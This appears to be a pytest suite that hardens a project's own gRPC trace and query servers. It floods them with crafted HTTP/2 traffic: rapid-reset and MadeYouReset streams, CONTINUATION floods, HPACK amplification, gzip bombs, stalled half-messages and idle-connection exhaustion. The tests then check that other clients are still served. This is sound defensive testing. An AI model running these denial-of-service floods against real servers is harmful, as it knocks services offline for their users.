"""Both gRPC ports against clients that mean harm: floods, half messages, closed windows, bombs."""

import gzip
import random
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable

import grpc
import pytest
from builders import a_request, a_span

from attack.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES_MAX,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    REFLECTION,
    RST_STREAM,
    TRACES,
    WINDOW_UPDATE,
    Peer,
    block,
    frame,
    head,
    literal,
    message,
    repeat,
    settings,
)
from attack.kit import ATTACKS, Budget, Outcome, attack, check, names, run
from attack.target import MIB, Addresses

SMALL = message(a_request(a_span()))
CALM = frame(RST_STREAM, 0, 1, (8).to_bytes(4, "big"))[9:]
THREADS = "/otel_threads.v1.ThreadService/ListThreads"


def streams(count: int, build: Callable[[int], bytes], first: int = 1) -> bytes:
    """Return the frames of so many streams, one after the other."""
    return b"".join(build(first + 2 * n) for n in range(count))


def each_connection(
    address: str, budget: Budget, build: Callable[[int], bytes], *, per_connection: int = 20_000
) -> Outcome:
    """Open streams 1, 3, 5 and so on as `build` says, as fast as the server takes them."""
    outcome = Outcome()
    while budget.left():
        peer = Peer(address)
        for first in range(1, 2 * per_connection, 400):
            chunk = streams(200, build, first)
            if not budget.left() or not peer.send(chunk):
                break
            budget.spend(len(chunk))
            outcome.answers["streams"] += 200
            peer.pump()
            if peer.closed:
                outcome.answers["closed"] += 1
                break
        peer.close()
    return outcome


# Frames that cost nothing to send.


@attack("grpc")
def pings(addresses: Addresses, budget: Budget) -> Outcome:
    """PING frames, each of which wants an answer; none is read."""
    return repeat(addresses.otlp_grpc, budget, frame(PING, 0, 0, bytes(8)) * 4000)


@attack("grpc")
def settings_without_end(addresses: Addresses, budget: Budget) -> Outcome:
    """SETTINGS frames, each of which wants an answer and changes every window."""
    one = settings({INITIAL_WINDOW_SIZE: 1}) + settings({INITIAL_WINDOW_SIZE: 1 << 20})
    return repeat(addresses.otlp_grpc, budget, one * 2000)


@attack("grpc")
def acknowledged_pings(addresses: Addresses, budget: Budget) -> Outcome:
    """Answers to PING frames that nobody has sent."""
    return repeat(addresses.otlp_grpc, budget, frame(PING, ACK, 0, bytes(8)) * 4000)


@attack("grpc")
def window_updates(addresses: Addresses, budget: Budget) -> Outcome:
    """WINDOW_UPDATE frames of one byte, of the connection and of a stream."""
    one = frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big"))
    first = head(1, block())
    return repeat(addresses.otlp_grpc, budget, one * 4000, first=first)


@attack("grpc")
def priorities(addresses: Addresses, budget: Budget) -> Outcome:
    """PRIORITY frames of streams that are not there."""
    chunk = b"".join(frame(PRIORITY, 0, 2 * n + 1, bytes(5)) for n in range(4000))
    return repeat(addresses.otlp_grpc, budget, chunk)


@attack("grpc")
def empty_data(addresses: Addresses, budget: Budget) -> Outcome:
    """DATA frames without a byte, of a call that never ends."""
    return repeat(addresses.otlp_grpc, budget, frame(DATA, 0, 1) * 4000, first=head(1, block()))


@attack("grpc")
def a_message_in_frames_of_a_byte(addresses: Addresses, budget: Budget) -> Outcome:
    """One message of 60 MiB, each byte in a frame of its own."""
    first = head(1, block()) + frame(DATA, 0, 1, struct.pack(">BI", 0, 60 * MIB))
    return repeat(addresses.otlp_grpc, budget, frame(DATA, 0, 1, b"\0") * 4000, first=first)


@attack("grpc")
def unknown_frames(addresses: Addresses, budget: Budget) -> Outcome:
    """Frames of kinds that HTTP/2 does not know, which a server must pass over."""
    return repeat(addresses.otlp_grpc, budget, frame(0xEE, 0xFF, 0, bytes(1000)) * 100)


@attack("grpc")
def garbage(addresses: Addresses, budget: Budget) -> Outcome:
    """Frames of random kinds, flags, streams and bodies; connections one after the other."""
    dice = random.Random(7)
    outcome = Outcome()
    while budget.left():
        peer = Peer(addresses.otlp_grpc)
        for _ in range(dice.randrange(1, 30)):
            kind, flags = dice.randrange(12), dice.choice([0, 1, 4, 5, 8, 32, 255])
            stream_id = dice.choice([0, 1, 1, 2, 3, 5, 2**31 - 1])
            body = dice.randbytes(dice.choice([0, 4, 5, 8, 60]))
            if not peer.send(frame(kind, flags, stream_id, body)):
                break
        peer.close()
        outcome.answers["connections"] += 1
    return outcome


# Streams.


@attack("grpc")
def rapid_reset(addresses: Addresses, budget: Budget) -> Outcome:
    """Calls that are cancelled as soon as they have begun (CVE-2023-44487)."""
    headers = block()

    def one(stream_id: int) -> bytes:
        return head(stream_id, headers) + frame(RST_STREAM, 0, stream_id, CALM)

    return each_connection(addresses.otlp_grpc, budget, one)


@attack("grpc")
def whole_calls_that_are_reset(addresses: Addresses, budget: Budget) -> Outcome:
    """As before, and each has its message, whole."""
    headers = block()

    def one(stream_id: int) -> bytes:
        body = frame(DATA, END_STREAM, stream_id, SMALL)
        return head(stream_id, headers) + body + frame(RST_STREAM, 0, stream_id, CALM)

    return each_connection(addresses.otlp_grpc, budget, one)


@attack("grpc")
def made_you_reset(addresses: Addresses, budget: Budget) -> Outcome:
    """The server is made to reset each stream: a WINDOW_UPDATE of zero (CVE-2025-8671)."""
    headers = block()

    def one(stream_id: int) -> bytes:
        return head(stream_id, headers) + frame(WINDOW_UPDATE, 0, stream_id, bytes(4))

    return each_connection(addresses.otlp_grpc, budget, one)


@attack("grpc")
def mixed_resets(addresses: Addresses, budget: Budget) -> Outcome:
    """Calls, whole ones, resets of both sides, PING and SETTINGS in turn."""
    headers = block()

    def one(stream_id: int) -> bytes:
        begun = head(stream_id, headers)
        match stream_id // 2 % 4:
            case 0:
                return begun + frame(RST_STREAM, 0, stream_id, CALM)
            case 1:
                return begun + frame(WINDOW_UPDATE, 0, stream_id, bytes(4))
            case 2:
                return begun + frame(DATA, END_STREAM, stream_id, SMALL)
            case _:
                return begun + frame(PING, 0, 0, bytes(8)) + settings({})

    return each_connection(addresses.otlp_grpc, budget, one)


@attack("grpc")
def refused_streams(addresses: Addresses, budget: Budget) -> Outcome:
    """Streams that never end, far more than the server allows in a connection."""
    headers = block()
    return each_connection(addresses.otlp_grpc, budget, lambda stream_id: head(stream_id, headers))


@attack("grpc")
def small_exports_without_end(addresses: Addresses, budget: Budget) -> Outcome:
    """Whole calls of one span, thousands in one connection; no answer is read."""
    headers = block()

    def one(stream_id: int) -> bytes:
        return head(stream_id, headers) + frame(DATA, END_STREAM, stream_id, SMALL)

    return each_connection(addresses.otlp_grpc, budget, one)


@attack("grpc")
def unknown_methods(addresses: Addresses, budget: Budget) -> Outcome:
    """Calls of methods that are not there."""
    headers = block("/nobody/Knows")
    return each_connection(
        addresses.otlp_grpc, budget, lambda stream_id: head(stream_id, headers, ends=True)
    )


@attack("grpc")
def calls_that_are_watched(addresses: Addresses, budget: Budget) -> Outcome:
    """grpc.health.v1 Watch, which never ends, as often as the server lets it."""
    headers = block("/grpc.health.v1.Health/Watch")

    def one(stream_id: int) -> bytes:
        return head(stream_id, headers) + frame(DATA, END_STREAM, stream_id, message(b""))

    return each_connection(addresses.otlp_grpc, budget, one)


# Headers.


@attack("grpc")
def paths_that_are_no_text(addresses: Addresses, budget: Budget) -> Outcome:
    """A path that is no UTF-8 ended gRPC's server for Python, for everybody; on both ports."""
    outcome = Outcome()
    while budget.left():
        for address in (addresses.otlp_grpc, addresses.grpc):
            for path in (b"/\xff\xfe/Export", b"\xff", b"/a\x00b", b"/\xc3\x28/x", b""):
                peer = Peer(address)
                peer.send(head(1, block(path), ends=True))
                end = time.monotonic() + budget.seconds()
                while 1 not in peer.ended and not peer.closed and time.monotonic() < end:
                    peer.pump(0.1)
                outcome.answers["answered" if 1 in peer.ended else "not answered"] += 1
                peer.close()
    return outcome


@attack("grpc")
def metadata_that_is_no_text(addresses: Addresses, budget: Budget) -> Outcome:
    """Values of headers that are no UTF-8, and of binary ones that are no base64."""
    values = {"x-otel-threads-project": b"\xff\xfe", "authorization": b"\x80", "x-bin": b"*"}
    headers = block() + b"".join(literal(name.encode(), text) for name, text in values.items())

    def one(stream_id: int) -> bytes:
        return head(stream_id, headers) + frame(DATA, END_STREAM, stream_id, SMALL)

    return each_connection(addresses.otlp_grpc, budget, one)


@attack("grpc")
def headers_of_a_megabyte(addresses: Addresses, budget: Budget) -> Outcome:
    """One header of a megabyte in CONTINUATION frames, in each of many calls."""
    outcome = Outcome()
    headers = block() + literal(b"x-long", b"x" * MIB)
    parts = [headers[at : at + FRAME_BYTES_MAX] for at in range(0, len(headers), FRAME_BYTES_MAX)]
    while budget.left():
        peer = Peer(addresses.otlp_grpc)
        for stream_id in range(1, 200, 2):
            sent = frame(HEADERS, 0, stream_id, parts[0])
            sent += b"".join(frame(CONTINUATION, 0, stream_id, part) for part in parts[1:-1])
            sent += frame(CONTINUATION, END_HEADERS, stream_id, parts[-1])
            if not budget.left() or not peer.send(sent):
                break
            budget.spend(len(sent))
            outcome.answers["headers"] += 1
            peer.pump()
        outcome.answers["closed"] += peer.closed
        peer.close()
    return outcome


@attack("grpc")
def continuations_without_end(addresses: Addresses, budget: Budget) -> Outcome:
    """CONTINUATION frames that never end the headers (CVE-2024-27316)."""
    chunk = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 200
    return repeat(addresses.otlp_grpc, budget, chunk, first=frame(HEADERS, 0, 1, block()))


@attack("grpc")
def headers_out_of_a_table(addresses: Addresses, budget: Budget) -> Outcome:
    """One header of 4 kB, put into the table once and named 4,000 times in each call."""

    def one(stream_id: int) -> bytes:
        return head(stream_id, headers + b"\xbe" * 4000)  # be: the newest entry of the table

    outcome = Outcome()
    headers = block().removeprefix(b"\x20")  # which would set the size of the table to 0
    while budget.left():
        peer = Peer(addresses.otlp_grpc)
        first = headers + b"\x40" + literal(b"x-a", b"b" * 3900)[1:]  # 40: keep it in the table
        peer.send(head(1, first))
        for stream_id in range(3, 2000, 2):
            if not budget.left() or not peer.send(one(stream_id)):
                break
            budget.spend(4100)
            outcome.answers["calls"] += 1
            peer.pump()
            if peer.closed:
                outcome.answers["closed"] += 1
                break
        peer.close()
    return outcome


# Messages.


@attack("grpc", seconds=10)
def half_messages_of_sixty_mebibytes(addresses: Addresses, budget: Budget) -> Outcome:
    """200 connections, each of which sends 60 MiB of a message of 64 MiB and then nothing."""
    return _half_messages(addresses.otlp_grpc, budget, 200, 64 * MIB, 60 * MIB)


@attack("grpc", seconds=10)
def half_requests_of_the_query_api(addresses: Addresses, budget: Budget) -> Outcome:
    """The same on the query port, whose messages are smaller."""
    return _half_messages(addresses.grpc, budget, 200, 16 * MIB, 15 * MIB, path=THREADS)


def _half_messages(
    address: str, budget: Budget, count: int, announced: int, sent_each: int, path: str = TRACES
) -> Outcome:
    outcome = Outcome()
    begun = head(1, block(path)) + frame(DATA, 0, 1, struct.pack(">BI", 0, announced))

    def connect() -> Peer:
        peer = Peer(address)
        peer.send(begun)
        return peer

    peers = [(connect(), sent_each) for _ in range(count)]
    budget.bytes_left = 6000 * MIB
    while budget.left():
        for n, (peer, left) in enumerate(peers):
            peer.pump()
            if peer.closed or 1 in peer.ended:  # refused: try again, as a bad client would
                outcome.answers["refused"] += 1
                peer.close()
                peers[n] = (connect(), sent_each)
                continue
            sent = peer.upload(1, min(left, MIB))
            budget.spend(sent)
            outcome.answers["KiB"] += sent // 1024
            peers[n] = (peer, left - sent)
    for peer, _ in peers:
        peer.close()
    return outcome


@attack("grpc", seconds=6)
def half_messages_in_every_stream(addresses: Addresses, budget: Budget) -> Outcome:
    """50 connections with 900 calls each, each of which sends 200 bytes of a message of 1,000."""
    outcome = Outcome()
    headers = block()
    begun = struct.pack(">BI", 0, 1000) + bytes(200)
    peers = []
    for _ in range(50):
        peer = Peer(addresses.otlp_grpc)
        peer.send(
            streams(
                900, lambda stream_id: head(stream_id, headers) + frame(DATA, 0, stream_id, begun)
            ),
            5.0,
        )
        peers.append(peer)
        if not budget.left():
            break
    while budget.left():
        for peer in peers:
            peer.pump()
        time.sleep(0.05)
    for peer in peers:
        outcome.answers["ended"] += len(peer.ended)
        peer.close()
    return outcome


@attack("grpc", seconds=6)
def four_prefixes_of_sixty_four_mebibytes(addresses: Addresses, budget: Budget) -> Outcome:
    """Four calls announce 64 MiB each in five bytes, and nothing follows."""
    outcome = Outcome()
    prefix = struct.pack(">BI", 0, 64 * MIB)
    peers = [Peer(addresses.otlp_grpc) for _ in range(4)]
    for peer in peers:
        peer.send(head(1, block()) + frame(DATA, 0, 1, prefix))
    while budget.left():
        for peer in peers:
            peer.pump(0.05)
    outcome.answers["refused"] = sum(1 in peer.ended for peer in peers)
    for peer in peers:
        peer.close()
    return outcome


@attack("grpc")
def messages_announced_too_large(addresses: Addresses, budget: Budget) -> Outcome:
    """Calls that announce 4 GiB."""
    headers, prefix = block(), struct.pack(">BI", 0, (1 << 32) - 1)
    return each_connection(
        addresses.otlp_grpc, budget, lambda n: head(n, headers) + frame(DATA, 0, n, prefix)
    )


@attack("grpc")
def gzip_bombs(addresses: Addresses, budget: Budget) -> Outcome:
    """60 kB that would be 60 MiB more than is allowed, again and again."""
    packer = zlib.compressobj(9, wbits=31)
    body = b"".join(packer.compress(bytes(MIB)) for _ in range(124)) + packer.flush()
    return _compressed(addresses, budget, body)


@attack("grpc")
def gzip_members(addresses: Addresses, budget: Budget) -> Outcome:
    """2 MB of empty gzip members, one after the other."""
    return _compressed(addresses, budget, gzip.compress(b"") * (2 * MIB // 20))


@attack("grpc")
def gzip_that_is_none(addresses: Addresses, budget: Budget) -> Outcome:
    """Messages that are marked as gzip and are not."""
    return _compressed(addresses, budget, random.Random(3).randbytes(60_000))


def _compressed(addresses: Addresses, budget: Budget, body: bytes) -> Outcome:
    """Send a body as gzip from four connections, one call after the other."""
    outcome = Outcome()
    sent = message(body, mark=1)

    def work() -> None:
        while budget.left():
            peer = Peer(addresses.otlp_grpc)
            peer.send(head(1, block(grpc_encoding="gzip")))
            at = 0
            while at < len(sent) and budget.left() and not peer.closed and 1 not in peer.ended:
                room = min(FRAME_BYTES_MAX, peer.window, peer.windows.get(1, peer.initial))
                part = sent[at : at + room]
                if part:
                    last = END_STREAM if at + len(part) == len(sent) else 0
                    peer.send(frame(DATA, last, 1, part))
                    at += len(part)
                    peer.window -= len(part)
                    peer.windows[1] = peer.windows.get(1, peer.initial) - len(part)
                peer.pump(0.0 if part else 0.05)
            end = time.monotonic() + 10
            while 1 not in peer.ended and not peer.closed and time.monotonic() < end:
                peer.pump(0.1)
            outcome.answers["answered" if 1 in peer.ended else "not answered"] += 1
            peer.close()

    crew = [threading.Thread(target=work) for _ in range(4)]
    for one in crew:
        one.start()
    for one in crew:
        one.join()
    return outcome


# Answers that nobody takes.


@attack("grpc", seconds=6)
def closed_windows(addresses: Addresses, budget: Budget) -> Outcome:
    """50 connections whose windows are closed, each with a thousand whole calls."""
    headers = block()
    outcome = Outcome()

    def one(stream_id: int) -> bytes:
        return head(stream_id, headers) + frame(DATA, END_STREAM, stream_id, SMALL)

    peers = []
    for _ in range(50):
        if not budget.left():
            break
        peer = Peer(addresses.otlp_grpc, {INITIAL_WINDOW_SIZE: 0})
        peer.send(streams(250, one), 5.0)
        peers.append(peer)
    while budget.left():
        for peer in peers:
            peer.pump()
        time.sleep(0.05)
    for peer in peers:
        outcome.answers["ended"] += len(peer.ended)
        peer.close()
    return outcome


@attack("grpc", seconds=6)
def reflection_that_nobody_reads(addresses: Addresses, budget: Budget) -> Outcome:
    """400 streams of reflection with a thousand requests each; the window is closed."""
    name = b"google/protobuf/descriptor.proto"
    asked = message(b"\x1a" + bytes([len(name)]) + name) * 1000
    headers = block(REFLECTION)
    outcome = Outcome()
    peers = [Peer(addresses.otlp_grpc, {INITIAL_WINDOW_SIZE: 0}) for _ in range(4)]
    for peer in peers:
        for stream_id in range(1, 200, 2):
            peer.send(head(stream_id, headers) + frame(DATA, 0, stream_id, asked[:FRAME_BYTES_MAX]))
    while budget.left():
        for peer in peers:
            peer.pump()
        time.sleep(0.05)
    for peer in peers:
        outcome.answers["ended"] += len(peer.ended)
        peer.close()
    return outcome


@attack("grpc", seconds=6)
def lists_that_nobody_reads(addresses: Addresses, budget: Budget) -> Outcome:
    """20 connections to the query API with 50 lists each; the windows are closed."""
    headers = block(THREADS)
    outcome = Outcome()

    def one(stream_id: int) -> bytes:
        return head(stream_id, headers) + frame(DATA, END_STREAM, stream_id, message(b""))

    peers = [Peer(addresses.grpc, {INITIAL_WINDOW_SIZE: 0}) for _ in range(20)]
    for peer in peers:
        peer.send(streams(50, one))
    while budget.left():
        for peer in peers:
            peer.pump()
        time.sleep(0.05)
    for peer in peers:
        outcome.answers["ended"] += len(peer.ended)
        peer.close()
    return outcome


# Connections.


@attack("grpc", seconds=6)
def idle_connections(addresses: Addresses, budget: Budget) -> Outcome:
    """A thousand connections that say nothing, to both ports."""
    return _idle(addresses, budget, b"")


@attack("grpc", seconds=6)
def prefaces_that_trickle(addresses: Addresses, budget: Budget) -> Outcome:
    """As before, with the first bytes of HTTP/2's preface."""
    return _idle(addresses, budget, PREFACE[:7])


@attack("grpc", seconds=6)
def greeted_and_idle(addresses: Addresses, budget: Budget) -> Outcome:
    """As before, greeted, and then nothing."""
    return _idle(addresses, budget, PREFACE + settings({}))


@attack("grpc", seconds=6)
def tls_that_is_half_open(addresses: Addresses, budget: Budget) -> Outcome:
    """As before, with the first bytes of a TLS handshake."""
    return _idle(addresses, budget, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")


def _idle(addresses: Addresses, budget: Budget, said: bytes) -> Outcome:
    outcome = Outcome()
    open_: list[socket.socket] = []
    for n in range(1000):
        if not budget.left():
            break
        host, _, port = (addresses.otlp_grpc if n % 2 else addresses.grpc).rpartition(":")
        try:
            one = socket.create_connection((host, int(port)), timeout=1)
            one.sendall(said)
            open_.append(one)
        except OSError as error:
            outcome.answers[type(error).__name__] += 1
    while budget.left():
        time.sleep(0.05)
    outcome.answers["open"] = len(open_)
    for one in open_:
        one.close()
    return outcome


@attack("grpc")
def connections_without_pause(addresses: Addresses, budget: Budget) -> Outcome:
    """Connections that are greeted and closed, one after the other."""
    outcome = Outcome()
    while budget.left():
        peer = Peer(addresses.otlp_grpc)
        peer.close()
        outcome.answers["connections"] += 1
    return outcome


@pytest.mark.slow
@pytest.mark.parametrize("name", names("grpc"))
def test_others_are_served_meanwhile(target, name):
    check(run(target, ATTACKS[name]))


def test_the_server_says_so_once_and_no_stack_trace(targets):
    """After all of it: a line a minute, and nothing that an attacker chose."""
    target = targets.fit()
    with grpc.insecure_channel(target.addresses.otlp_grpc) as one:
        assert one.unary_unary(TRACES)(a_request(a_span()), timeout=30) == b""
    said = target.stderr()
    assert "Traceback" not in said
    assert len(said.splitlines()) < 100
